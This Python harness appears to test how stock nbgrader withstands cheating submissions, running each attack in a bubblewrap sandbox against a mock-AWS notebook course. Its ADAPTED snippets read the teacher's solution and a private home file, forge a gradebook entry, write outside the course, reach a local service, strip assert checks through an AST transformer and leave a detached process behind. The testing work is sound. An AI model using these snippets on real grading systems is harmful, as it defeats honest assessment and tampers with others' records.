"""What stock nbgrader makes of attacks, measured: `python tests/attacks/stock.py [NAME…]`; docs/attacks.md shows it.

Run by hand. Each attack gets a course of stock nbgrader of its own in a throw-away folder: a notebook whose locked
first cell starts moto's mock_aws, a task cell, and two autograded test cells of five points each. The attack is one
student, and an honest one comes after it. What is no attack of ours on files stands in the task cell, without the
honest work that many of them do besides: any point is a gain.

All of it runs in a bubblewrap that shows the machine read-only, with processes and a network of its own: the attacks
meet nbgrader as it is, not the machine. None of those below takes memory, processes or disk without end.
"""

import json
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from importlib.metadata import version
from pathlib import Path
from shutil import copytree
from tempfile import TemporaryDirectory
from typing import Any

import nbformat
from nbgrader.api import Gradebook, MissingEntry

sys.path.extend(str(Path(__file__).resolve().parents[1] / name) for name in ("", "helpers"))

from attacks.corpus import Attack, attacks, work

HERE = Path(__file__).resolve().parent
DATA = HERE / "stock.json"
SECONDS = 240  # for one autograde run; nbgrader itself gives a cell 30
SECRET, HOME_SECRET = "the-solution-is-here", "a-file-of-the-teacher's"
SCENES = {
    "ec2": """
ec2 = boto3.client("ec2")
given = types.SimpleNamespace(tag_key="stage", tag_value="old")
tags = [{"ResourceType": "instance", "Tags": [{"Key": "stage", "Value": "old"}]}]
old = ec2.run_instances(ImageId="ami-12c6146b", MinCount=3, MaxCount=3, TagSpecifications=tags)["Instances"]
other = ec2.run_instances(ImageId="ami-12c6146b", MinCount=4, MaxCount=4)["Instances"]
""",
    "s3": """
given = types.SimpleNamespace(bucket="open-data", folder="birds_2025", prefix="lab/birds/")
texts = {"stations.csv": "place", "may/counts.csv": "3", "report.html": "<p>", "plots/daily/means.json": "[]"}
for name, text in texts.items():
    path = pathlib.Path(given.folder, name)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
boto3.client("s3").create_bucket(Bucket=given.bucket)
boto3.client("s3").put_object(Bucket=given.bucket, Key="stations.csv", Body=b"old")
""",
    "answers": """
ec2 = boto3.client("ec2")
(made,) = ec2.run_instances(ImageId="ami-12c6146b", MinCount=1, MaxCount=1)["Instances"]
given = types.SimpleNamespace(instance=made["InstanceId"])
""",
}
START = """
import os
import pathlib
import types

import boto3
from moto import mock_aws

os.environ |= {"AWS_DEFAULT_REGION": "us-east-1", "AWS_ACCESS_KEY_ID": "a", "AWS_SECRET_ACCESS_KEY": "b"}
mock_aws().start()
"""
CHECKS = {
    "ec2": (
        """
ec2 = boto3.client("ec2")
state = {i["InstanceId"]: i["State"]["Name"] for r in ec2.describe_instances()["Reservations"] for i in r["Instances"]}
assert all(state.get(i["InstanceId"]) == "terminated" for i in old)
""",
        """
assert all(state.get(i["InstanceId"]) == "terminated" for i in old)
assert all(state.get(i["InstanceId"]) == "running" for i in other)
""",
    ),
    "s3": (
        """
s3 = boto3.client("s3")
folder = pathlib.Path("birds_2025")
files = {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}
keys = {item["Key"] for item in s3.list_objects_v2(Bucket="open-data")["Contents"]}
assert keys == {"stations.csv", *("lab/birds/" + name for name in files)} and len(files) == 4
""",
        """
stored = {key: s3.get_object(Bucket="open-data", Key=key)["Body"].read() for key in keys}
assert stored == {"stations.csv": b"old", **{"lab/birds/" + name: data for name, data in files.items()}}
assert len(files) == 4
""",
    ),
    "answers": (
        """
(found,) = boto3.client("ec2").describe_instances(InstanceIds=[given.instance])["Reservations"][0]["Instances"]
assert public_ip == found["PublicIpAddress"] and public_dns == found["PublicDnsName"]
""",
        """
assert instance_type == found["InstanceType"] and state == found["State"]["Name"]
""",
    ),
}
HONEST = {
    "ec2": f"{work('ec2')}\nwork()",
    "s3": f"{work('s3')}\nwork()",
    "answers": """
(one,) = boto3.client("ec2").describe_instances(InstanceIds=[given.instance])["Reservations"][0]["Instances"]
public_ip, public_dns = one["PublicIpAddress"], one["PublicDnsName"]
instance_type, state = one["InstanceType"], one["State"]["Name"]
""",
}
# What these look for lies elsewhere in a course of nbgrader's.
ADAPTED = {
    "s3/looks_for_the_course": """
import pathlib
import sqlite3

for path in (pathlib.Path("../../../source/s3/task.ipynb"), pathlib.Path.home() / "private.txt"):
    print(path.read_text())
with sqlite3.connect("../../../gradebook.db", timeout=5) as gradebook:
    gradebook.execute("insert into student (id) values ('owned')")
""",
    "ec2/writes_outside": """
import pathlib

(pathlib.Path.home() / "owned").write_text("x")
""",
    "ec2/connects_everywhere": """
import socket

socket.create_connection(("127.0.0.1", 8099), 5).close()
""",
    "s3/syntax_tree_transformer": """
import ast


class Nothing(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(Nothing())
""",
    "s3/child_changes_the_cloud_later": """
import subprocess

subprocess.Popen(["sleep", "300"], start_new_session=True)
""",
}
IN_THE_TASK_CELL = [
    *("ec2/exit_before_the_work", "s3/interrupts_itself", "ec2/exit_now", "ec2/busy_loop", "ec2/reads_address_zero"),
    *("s3/control_characters", "ec2/patched_modules", "s3/patched_boto3", "ec2/last_words", "s3/error_that_lies"),
    *(
        "answers/equal_to_everything",
        "answers/half_characters",
        "ec2/report_on_standard_output",
        "s3/claims_in_answers",
    ),
    *("ec2/ids_typed_in", "ec2/own_error_handler", "ec2/input_transformer"),
    *("ec2/cell_runner_replaced", "s3/hooks_around_cells", "ec2/backends_edited", "s3/mock_around_everything"),
    *("ec2/tags_moved", "ec2/machines_made_again", "s3/made_and_deleted", "ec2/error_with_half_a_character"),
]
AS_FILES = [
    f"files/{name}"
    for name in (
        *("every_cell_twice", "locked_cells_deleted", "checks_edited", "points_forged", "outputs_forged"),
        *("ids_repeated", "scene_edited", "not_json", "cut_off", "sixteen_bits", "format_three", "a_folder"),
        *("another_kernel", "deep_lists", "archive_as_a_notebook", "no_numbers_in_json", "order_reversed"),
    )
]


def notebook_of(kind: str, task: str) -> nbformat.NotebookNode:
    """The teacher's notebook; `task` is its solution, or a student's work in the released one's place."""
    parts = [
        ("scene", START + SCENES[kind], {"locked": True}),
        ("task", task, {"solution": True}),
        *(("check", text, {"locked": True, "grade": True, "points": 5}) for text in CHECKS[kind]),
    ]
    cells = []
    for number, (role, source, marks) in enumerate(parts):
        known = {"schema_version": 3, "grade_id": f"{role}-{number}", "cell_type": "code", "task": False}
        nbgrader = {**known, "grade": False, "solution": False, "locked": False, **marks}
        metadata = {"tags": [role], "nbgrader": nbgrader}
        cells.append(nbformat.v4.new_code_cell(source.strip(), id=f"{role}-{number}", metadata=metadata))
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel})


def course_of(folder: Path, kind: str) -> None:
    """A course of stock nbgrader in `folder`, with its release, and a home folder beside it."""
    source = folder / "course/source" / kind
    source.mkdir(parents=True)
    (folder / "home").mkdir()
    (folder / "home/private.txt").write_text(HOME_SECRET)
    solution = f"### BEGIN SOLUTION\n# {SECRET}\npass\n### END SOLUTION"
    nbformat.write(notebook_of(kind, solution), source / "task.ipynb")
    (folder / "course/nbgrader_config.py").write_text('c = get_config()\nc.CourseDirectory.course_id = "stock"\n')
    status = in_a_box(folder, f"nbgrader generate_assignment {kind}")
    assert status == 0, (folder / "log").read_text()


def in_a_box(folder: Path, command: str) -> int | None:
    """Run nbgrader where only `folder` can be written; None when it does not end. `processes` tells who is left."""
    bin_dir = Path(sys.executable).parent
    listener = (
        "import socket\ns = socket.create_server(('127.0.0.1', 8099))\ns.accept()\nopen('connected', 'w').close()"
    )
    script = f"""
cd {folder} && rm -f processes connected && {sys.executable} -c "{listener}" & known=$!
cd {folder}/course && {command} >../log 2>&1 </dev/null; status=$?
for process in /proc/[0-9]*; do
    case ${{process#/proc/}} in 1|$$|$known) ;; *) tr '\\0' ' ' <$process/cmdline; echo;; esac
done 2>/dev/null >../processes
exit $status
"""
    box = ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/dev/shm"]
    box += ["--bind", str(folder), str(folder), "--unshare-all", "--die-with-parent", "--new-session", "--clearenv"]
    env = {"HOME": str(folder / "home"), "PATH": f"{bin_dir}:/usr/bin:/bin", "LANG": "C.UTF-8", "TMPDIR": str(folder)}
    env |= {"MOTO_EC2_LOAD_DEFAULT_AMIS": "false", "PYDEVD_DISABLE_FILE_VALIDATION": "1"}
    for name, value in env.items():
        box += ["--setenv", name, value]
    try:
        return subprocess.run([*box, "bash", "-c", script], timeout=SECONDS, check=False).returncode
    except subprocess.TimeoutExpired:
        return None


def attacked(attack: Attack) -> list[str]:
    """The attack's cells, without the honest work that it does besides."""
    text = ADAPTED.get(attack.name, attack.text)
    text = text.replace("# attack:", "def work(*_, **__):\n    return []\n\n\n# attack:", 1)
    return text.split("# %%")


def kind_of(attack: Attack) -> str:
    """The step of the trial that it is handed in for: it has none for the shell."""
    return attack.kind if attack.kind in SCENES else "s3"


def hand_in(folder: Path, attack: Attack) -> None:
    """The attack as one student, and an honest one after it."""
    kind = kind_of(attack)
    release = nbformat.read(folder / f"course/release/{kind}/task.ipynb", as_version=4)
    task = next(n for n, cell in enumerate(release.cells) if "task" in cell.metadata.tags)
    paths = [folder / f"course/submitted/{student}/{kind}/task.ipynb" for student in ("mallory", "zoe")]
    for path in paths:
        path.parent.mkdir(parents=True)
    release.cells[task].source = HONEST[kind]
    nbformat.write(release, paths[1])
    if attack.on:
        attack.make(paths[0], json.loads(nbformat.writes(release)))
        return
    release.cells[task].source, *more = attacked(attack)
    release.cells[task + 1 : task + 1] = [nbformat.v4.new_code_cell(source) for source in more]
    nbformat.write(release, paths[0])


def tried(attack: Attack, courses: Path) -> dict[str, Any]:
    """What stock nbgrader comes to: both students' scores (None: not graded) and what else happened."""
    kind = kind_of(attack)
    with TemporaryDirectory(prefix="stock-") as name:
        folder = Path(name) / "one"
        copytree(courses / kind, folder)
        hand_in(folder, attack)
        status = in_a_box(folder, f"nbgrader autograde {kind}")
        score, following = (score_of(folder, kind, student) for student in ("mallory", "zoe"))
        made = {"score": score, "next": following, "happened": happened(folder, kind, status)}
        made["adapted"] = attack.name in ADAPTED
        print(attack.name, made, flush=True)
        return made


def score_of(folder: Path, kind: str, student: str) -> float | None:
    """The score in the gradebook; None where it was not graded."""
    with Gradebook(f"sqlite:///{folder}/course/gradebook.db") as gradebook:
        try:
            notebook = gradebook.find_submission_notebook("task", kind, student)
        except MissingEntry:
            return None
        graded = (folder / f"course/autograded/{student}/{kind}/task.ipynb").is_file()
        return float(notebook.score) if graded else None


def happened(folder: Path, kind: str, status: int | None) -> list[str]:
    """What is found afterwards, each by its trace."""
    graded = folder / f"course/autograded/mallory/{kind}/task.ipynb"
    shown = ""
    if graded.is_file():
        outputs = [cell.get("outputs", []) for cell in nbformat.read(graded, as_version=4).cells]
        shown = "".join(output.get("text", "") for cell in outputs for output in cell)
    left = [line for line in (folder / "processes").read_text().splitlines() if line] if status is not None else []
    with Gradebook(f"sqlite:///{folder}/course/gradebook.db") as gradebook:
        changed = any(student.id == "owned" for student in gradebook.students)
    found = {
        "the run did not end": status is None,
        "it read the solution": SECRET in shown,
        "it read a file in the home folder": HOME_SECRET in shown,
        "it wrote into the home folder": (folder / "home/owned").exists(),
        "it changed the gradebook": changed,
        "it reached a service of the machine": (folder / "connected").exists(),
        "it left a process behind": any("sleep" in line for line in left),
    }
    return [what for what, was in found.items() if was]


def main() -> None:
    """Try those that are named, or all, and note what they came to."""
    corpus = {attack.name: attack for attack in attacks("ec2", "s3", "answers", "files")}
    names = sys.argv[1:] or [*ADAPTED, *IN_THE_TASK_CELL, *AS_FILES]
    noted = json.loads(DATA.read_text()) if DATA.exists() and sys.argv[1:] else {"tried": {}}
    with TemporaryDirectory(prefix="stock-") as folder, ThreadPoolExecutor(2) as pool:
        for kind in {kind_of(corpus[name]) for name in names}:
            (Path(folder) / kind).mkdir()
            course_of(Path(folder) / kind, kind)
        for name, made in zip(names, pool.map(lambda name: tried(corpus[name], Path(folder)), names), strict=True):
            noted["tried"][name] = made
            noted |= {"nbgrader": version("nbgrader"), "moto": version("moto"), "date": f"{datetime.now(UTC):%Y-%m-%d}"}
            DATA.write_text(json.dumps(noted, indent=1, sort_keys=True) + "\n")


if __name__ == "__main__":
    main()
